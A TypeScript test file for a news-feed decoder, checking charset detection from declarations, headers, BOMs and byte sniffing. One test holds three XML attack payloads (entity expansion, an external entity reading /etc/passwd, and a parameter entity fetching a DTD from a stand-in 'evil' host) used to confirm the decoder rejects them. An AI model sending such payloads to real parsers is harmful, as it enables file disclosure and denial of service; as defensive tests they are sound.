import iconv from "iconv-lite";
import { describe, expect, it } from "vitest";
import { decodeFeedBody } from "@/lib/news/ingest/decode-feed-body";
import { FeedFetchError } from "@/lib/news/ingest/feed-fetch-error";

const doc = (encoding: string | null, title: string) =>
  `<?xml version="1.0"${encoding ? ` encoding="${encoding}"` : ""}?><rss version="2.0"><channel><title>${title}</title></channel></rss>`;
const titleOf = (text: string) => /<title>(.*)<\/title>/.exec(text)?.[1];

describe("decodeFeedBody", () => {
  it.each([
    ["windows-1252", "Café – “quoted”"],
    ["iso-8859-2", "Zażółć gęślą jaźń"],
    ["iso-8859-5", "Привет"],
    ["koi8-r", "Привет мир"],
    ["gb2312", "不归移民漫画系列"],
    ["gbk", "专业工作"],
    ["gb18030", "中文𠀀"],
    ["big5", "我希望很容易"],
    ["shift_jis", "記事投稿が反映されない"],
    ["euc-jp", "ゲーム三昧な正月"],
    ["euc-kr", "한글닉네임"],
  ])("reads %s from the XML declaration", (encoding, title) => {
    const decoded = decodeFeedBody(iconv.encode(doc(encoding, title), encoding));
    expect(titleOf(decoded.text)).toBe(title);
    expect(decoded.source).toBe("xml-declaration");
  });

  it("prefers the Content-Type charset over the declaration", () => {
    const body = iconv.encode(doc("utf-8", "Привет"), "koi8-r");
    const decoded = decodeFeedBody(body, "application/rss+xml; charset='KOI8-R'");
    expect(titleOf(decoded.text)).toBe("Привет");
    expect(decoded.source).toBe("content-type");
  });

  it.each([
    ["utf-16le", [0xff, 0xfe]],
    ["utf-16be", [0xfe, 0xff]],
    ["utf-32le", [0xff, 0xfe, 0x00, 0x00]],
    ["utf-32be", [0x00, 0x00, 0xfe, 0xff]],
    ["utf-8", [0xef, 0xbb, 0xbf]],
  ])("a %s BOM wins over everything", (encoding, bom) => {
    const body = Buffer.concat([Buffer.from(bom), iconv.encode(doc("iso-8859-1", "Ünïcødé ✓"), encoding)]);
    const decoded = decodeFeedBody(body, "text/xml; charset=windows-1252");
    expect(titleOf(decoded.text)).toBe("Ünïcødé ✓");
    expect(decoded).toMatchObject({ encoding, source: "bom" });
    expect(decoded.text.startsWith("<?xml")).toBe(true);
  });

  it.each(["utf-16le", "utf-16be", "utf-32le", "utf-32be"])("sniffs %s without a BOM", (encoding) => {
    const decoded = decodeFeedBody(iconv.encode(doc(encoding.slice(0, 6), "wide ✓"), encoding));
    expect(titleOf(decoded.text)).toBe("wide ✓");
    expect(decoded.encoding).toBe(encoding);
  });

  it("detects the charset of undeclared non-UTF-8 bytes", () => {
    const title = "DrecomRSSに記事投稿が反映されない、ゲーム三昧な正月を過ごしました";
    const decoded = decodeFeedBody(iconv.encode(doc(null, title), "shift_jis"));
    expect(decoded).toMatchObject({ encoding: "shift_jis", source: "detected" });
    expect(titleOf(decoded.text)).toBe(title);
  });

  it("reads invalid UTF-8 as windows-1252, and ignores a bogus label", () => {
    expect(titleOf(decodeFeedBody(Buffer.from(doc(null, "Café"), "latin1")).text)).toBe("Café");
    expect(decodeFeedBody(Buffer.from(doc("x-no-such-charset", "ok")), "text/xml; charset=bogus").encoding).toBe("utf-8");
  });

  it("removes a plain DOCTYPE and refuses entity declarations", () => {
    const plain = `<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://x/rss.dtd"><rss/>`;
    expect(decodeFeedBody(Buffer.from(plain)).text).toBe(`<?xml version="1.0"?><rss/>`);
    for (const attack of [
      `<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><rss>&b;</rss>`,
      `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss>&x;</rss>`,
      `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><rss/>`,
    ]) {
      expect(() => decodeFeedBody(Buffer.from(attack))).toThrow(expect.objectContaining({ code: "unsafe-xml" }));
    }
  });

  it("refuses an empty body", () => {
    expect(() => decodeFeedBody(Buffer.alloc(0))).toThrow(FeedFetchError);
  });
});
